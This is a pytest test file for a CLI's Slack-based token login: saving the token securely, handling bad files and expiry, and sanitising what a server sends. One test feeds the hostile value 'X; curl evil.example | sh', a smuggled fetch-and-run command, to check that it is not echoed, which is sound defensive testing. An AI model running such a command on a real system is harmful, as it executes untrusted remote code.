"""`gpubot agent login`: what the person and the program see, and the file with the token."""

from __future__ import annotations

import json
import os
import socket
from collections import deque
from pathlib import Path

import pytest
from inline_snapshot import snapshot

from agent.settings import read_settings, settings_file
from agent.words import REPLACED
from bot.model.api import LoginState
from bot.sealed_secret import new_key, public_text
from tests.agent.api import LOGIN_ID, SECRET, Api, a_login, problem, status
from tests.agent.conftest import Cli, QuickClock, interrupted

OTHERS = "# mine\nOTHER=1\n"


@pytest.fixture
def without_token(api: Api, monkeypatch: pytest.MonkeyPatch) -> Api:
    """Return an API whose address is known, but for which there is no token yet."""
    monkeypatch.delenv("GPUBOT_TOKEN")
    return api


def written(text: str, mode: int = 0o600) -> Path:
    """Write the file with the settings before the login."""
    file = settings_file()
    file.parent.mkdir(parents=True, exist_ok=True)
    file.write_text(text, encoding="utf-8")
    file.chmod(mode)
    return file


async def test_a_login_shows_a_code_and_saves_the_token(without_token: Api, cli: Cli, clock: QuickClock) -> None:
    api = without_token
    done = await cli("login", "--name", "claude")
    assert done.status == 0
    assert done.err.splitlines() == snapshot(
        [
            "In Slack, type: /gpu token KTRWXQMB",
            "The code works once, within 10 min. Type it yourself; don't send it to anyone.",
        ]
    )
    assert done.out.splitlines() == snapshot(
        [
            "Logged in as nightly eval (Ana), until 18 Mar. The token is in a file that only you can read, and "
            "was never in Slack."
        ]
    )
    assert api.calls == ["POST /v1/logins", *[f"GET /v1/logins/{LOGIN_ID}"] * 2]
    assert {seen.authorization for seen in api.seen} == {None}
    assert clock.paused == [2, 2]
    assert api.login_request is not None
    assert api.login_request.program == "claude"
    file = settings_file()
    assert file.stat().st_mode & 0o777 == 0o600
    assert file.parent.stat().st_mode & 0o777 == 0o700
    settings = read_settings({})
    assert (settings.address.url, settings.token.get_secret_value()) == (api.url, SECRET)
    assert (await cli("token")).out.startswith("nightly eval (Ana) may rent H100 or L40S")
    assert api.seen[-1].authorization == f"Bearer {SECRET}"
    assert SECRET not in done.out + done.err


async def test_a_login_whose_terms_need_approval_says_so(without_token: Api, cli: Cli) -> None:
    without_token.login_fields = {"needs_approval": True}
    done = await cli("login")
    assert done.out.splitlines()[1:] == snapshot(
        ["It won't work until an approver agrees. To see whether it works: gpubot agent token"]
    )
    with_json = await cli("login", "--json")
    assert with_json.out.count("\n") == 1
    shown = json.loads(with_json.out)
    assert (shown["token"], shown["needs_approval"]) == ("nightly eval (Ana)", True)
    assert shown["file"] == str(settings_file())
    assert {"id", "secret"}.isdisjoint(shown)


async def test_other_lines_of_the_file_stay(without_token: Api, cli: Cli) -> None:
    file = written(
        f"{OTHERS}export GPUBOT_TOKEN='gpb_old'\n\n# the address\ngpubot_api_url=https://old.example.com"
    )
    done = await cli("login")
    assert (done.status, done.err.splitlines()[-1]) == (0, REPLACED)
    assert file.read_text().splitlines() == [
        "# mine",
        "OTHER=1",
        "",
        "# the address",
        f"GPUBOT_API_URL={without_token.url}",
        f"GPUBOT_TOKEN={SECRET}",
    ]
    assert [one.name for one in file.parent.iterdir()] == ["agent.env"]


async def test_the_address_comes_from_the_option_the_environment_or_the_file(
    without_token: Api, cli: Cli, monkeypatch: pytest.MonkeyPatch
) -> None:
    url = without_token.url
    monkeypatch.delenv("GPUBOT_API_URL")
    missing = await cli("login")
    assert (missing.status, without_token.calls) == (1, [])
    assert "Name it with --url, or set it in the environment or in " in missing.err
    file = written(f"GPUBOT_API_URL={url}\n")
    assert (await cli("login")).status == 0
    file.unlink()
    monkeypatch.setenv("GPUBOT_API_URL", "https://other.example.com")
    done = await cli("login", "--url", url)
    assert done.status == 0
    assert "GPUBOT_API_URL is set in the environment, which comes before the file." in done.err
    assert (await cli("login", "--url", "http://gpubot.example.com")).status == 1


async def test_a_token_in_the_environment_is_named_because_it_comes_first(api: Api, cli: Cli) -> None:
    done = await cli("login")
    assert (done.status, api.seen[0].authorization) == (0, None)
    assert done.err.splitlines()[-1] == snapshot(
        "GPUBOT_TOKEN is set in the environment, which comes before the file. To use the new token: "
        "unset GPUBOT_TOKEN"
    )


@pytest.mark.parametrize("forgotten", [False, True])
async def test_a_code_that_nobody_uses_ends_the_command(without_token: Api, cli: Cli, forgotten: bool) -> None:
    without_token.logins = deque([LoginState.WAITING, LoginState.EXPIRED])
    if forgotten:
        refused = problem("not-found", "There is no such login.", status=404)
        without_token.refusal = lambda call: refused if call.startswith("GET /v1/logins") else None
    done = await cli("login")
    assert (done.status, done.out) == (4, "")
    assert done.err.splitlines()[-1] == snapshot(
        "The code KTRWXQMB has expired. If you have made a token with it, no program can use that token. Stop it "
        "in Slack: /gpu token list. For a new code, run gpubot agent login again."
    )
    assert not settings_file().exists()
    without_token.logins = deque([LoginState.WAITING, LoginState.EXPIRED])
    if not forgotten:
        with_json = await cli("login", "--json")
        assert (with_json.status, json.loads(with_json.out)["state"]) == (4, "expired")


async def test_an_api_that_restarts_during_a_login_is_asked_again(without_token: Api, cli: Cli) -> None:
    api = without_token
    api.refusal = lambda _: status(502)() if 1 < len(api.seen) < 6 else None
    assert (await cli("login")).status == 0


async def test_ctrl_c_says_that_the_code_is_of_no_use_any_more(without_token: Api) -> None:
    api = without_token
    api.login_fields = {"ask_again_in": 1}
    done = await interrupted(api, f"GET /v1/logins/{LOGIN_ID}", "login")
    assert (done.status, done.out) == (130, "")
    assert done.err.splitlines()[2:] == [
        "Stopped waiting, so the code is of no use any more. If you have made a token with it, stop that token in "
        "Slack: /gpu token list"
    ]
    assert not settings_file().exists()


async def test_too_many_logins_are_refused_in_the_words_of_the_api(without_token: Api, cli: Cli) -> None:
    without_token.refusal = lambda _: problem("too-many-logins", "Five logins a minute.\x1b[2J", status=409)
    done = await cli("login")
    assert (done.status, done.out, done.err) == (1, "", "Five logins a minute.[2J\n")


@pytest.mark.parametrize("kind", ["link", "open", "folder", "broken", "locked", "url"])
async def test_nobody_is_asked_for_a_token_that_cannot_be_saved(
    without_token: Api, cli: Cli, tmp_path: Path, kind: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    file = written(OTHERS, 0o644 if kind == "open" else 0o600)
    elsewhere = tmp_path / "elsewhere"
    elsewhere.write_text(OTHERS)
    if kind in {"link", "folder"}:
        file.unlink()
    match kind:
        case "link":
            file.symlink_to(elsewhere)
        case "folder":
            file.mkdir()
        case "broken":
            file.write_text("GPUBOT_TOKEN='never closed\n")
        case "locked":
            monkeypatch.setattr(os, "access", lambda *_: False)
        case "url":
            monkeypatch.setenv("GPUBOT_API_URL", "unix:/run/a'b.sock")
    done = await cli("login")
    assert (done.status, done.out, without_token.calls) == (1, "", [])
    assert str(file if kind != "locked" else file.parent) in done.err
    assert elsewhere.read_text() == OTHERS


async def test_a_file_of_somebody_else_is_left_alone(
    without_token: Api, cli: Cli, monkeypatch: pytest.MonkeyPatch
) -> None:
    written(OTHERS)
    own = os.geteuid()
    monkeypatch.setattr(os, "geteuid", lambda: own + 1)
    done = await cli("login")
    assert (done.status, without_token.calls) == (1, [])
    assert "belongs to another user" in done.err


async def test_a_disk_that_is_full_loses_the_token_but_not_the_file(
    without_token: Api, cli: Cli, monkeypatch: pytest.MonkeyPatch
) -> None:
    file, api = written(OTHERS), without_token

    def full(_: int) -> None:
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(os, "fsync", full)
    done = await cli("login")
    assert (done.status, done.out, len(api.calls)) == (1, "", 3)
    assert done.err.splitlines()[-1].removeprefix(str(file)) == snapshot(
        ": I can't write it: No space left on device. So the new token is lost. Stop it in Slack (/gpu token "
        "list), and run gpubot agent login again."
    )
    assert file.read_text() == OTHERS
    assert [one.name for one in file.parent.iterdir()] == ["agent.env"]


@pytest.mark.usefixtures("without_token")
@pytest.mark.parametrize("umask", [0o000, 0o777])
async def test_only_the_owner_can_read_the_file_whatever_the_umask_is(
    cli: Cli, monkeypatch: pytest.MonkeyPatch, umask: int
) -> None:
    settings_file().parent.mkdir(parents=True)
    modes: list[int] = []
    replace = Path.replace

    def seen(part: Path, target: Path) -> Path:
        modes.append(part.stat().st_mode & 0o777)
        return replace(part, target)

    monkeypatch.setattr(Path, "replace", seen)
    before = os.umask(umask)
    try:
        assert (await cli("login")).status == 0
    finally:
        os.umask(before)
    assert [*modes, settings_file().stat().st_mode & 0o777] == [0o600, 0o600]


@pytest.mark.parametrize("wrong", ["key", "login", "missing", "text"])
async def test_a_token_for_another_program_is_not_saved(without_token: Api, cli: Cli, wrong: str) -> None:
    api, another = without_token, a_login(LoginState.DONE, public_text(new_key()))
    match wrong:
        case "key":
            api.login_fields = {"secret": another.secret}
        case "login":
            # The secret is sealed for this key, but for another login.
            api.login_fields = {"id": LOGIN_ID[:-1]}
            api.logins = deque([LoginState.DONE])
        case "missing":
            api.login_fields = {"secret": None}
        case _:
            api.new_secret = "gpb_short\nOTHER=1"  # noqa: S105 - not a secret
    done = await cli("login")
    assert (done.status, done.out) == (1, "")
    assert done.err.splitlines()[-1].startswith("The API sent no token that this program can read, ")
    assert not settings_file().exists()


async def test_what_a_foreign_server_sends_cannot_control_the_terminal(without_token: Api, cli: Cli) -> None:
    without_token.login_fields = {"token": "a\x1b[2J\nLogged in as b"}
    done = await cli("login")
    assert done.out.startswith("Logged in as a[2J Logged in as b, until ")
    without_token.login_fields = {"code": "X; curl evil.example | sh"}
    done = await cli("login")
    assert (done.status, "curl" in done.err) == (1, False)


@pytest.mark.parametrize("name", ["", " ", "cl\u0430ude", "claude\n", "claude (Ana)", "c" * 61])
async def test_a_name_that_could_deceive_is_wrong_usage(without_token: Api, cli: Cli, name: str) -> None:
    done = await cli("login", "--name", name)
    assert (done.status, without_token.calls) == (2, [])
    assert "letters and digits, such as claude" in " ".join(done.err.replace("│", "").split())


@pytest.mark.parametrize(
    ("host", "sent"), [("build-7.local", "build-7.local"), ("Ana\u2019s M\u00e4c", "Ana-s-M-c"), ("", "unnamed")]
)
async def test_any_host_name_is_sent_in_plain_letters(
    without_token: Api, cli: Cli, monkeypatch: pytest.MonkeyPatch, host: str, sent: str
) -> None:
    monkeypatch.setattr(socket, "gethostname", lambda: host)
    assert (await cli("login", "--name", "nightly eval")).status == 0
    assert without_token.login_request is not None
    assert (without_token.login_request.program, without_token.login_request.host) == ("nightly eval", sent)
